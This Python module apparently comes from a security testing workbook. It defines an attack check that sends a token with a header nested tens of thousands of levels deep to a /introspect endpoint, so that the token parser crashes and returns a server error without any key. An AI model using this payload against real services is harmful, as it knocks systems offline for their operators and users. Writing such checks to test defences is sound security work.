"""Mallory sends a token whose header is a list in a list in a list, thousands of levels deep.

It needs no key: the header is read before the signature. The reader of JSON gives up with an error
that is none of the token library's own, and a server that catches only those answers 500.
"""

from workbook.attacking import Api, attack, forge, reach

DEPTHS = (12_000, 100_000)  # newer Pythons give up later


@attack(
    "Crash the token library with a nested header",
    route="POST /introspect",
    closes=3,
    see="RFC 8725 §2.4",
    catches="VF-30 VF-34",
)
def crash_on_header(api: Api) -> str | None:
    mallory = api.mallory
    for depth in DEPTHS:
        crafted = f"{forge.encode(b'[' * depth)}.e30.AAAA"
        seen = reach(
            api.post("/introspect", token=mallory.token, form={"token": crafted}, caller="mallory")
        )
        if seen.status == 0 or seen.status >= 500:
            return f"an internal error ({seen.status}) at will, without a key or a password"
    return None
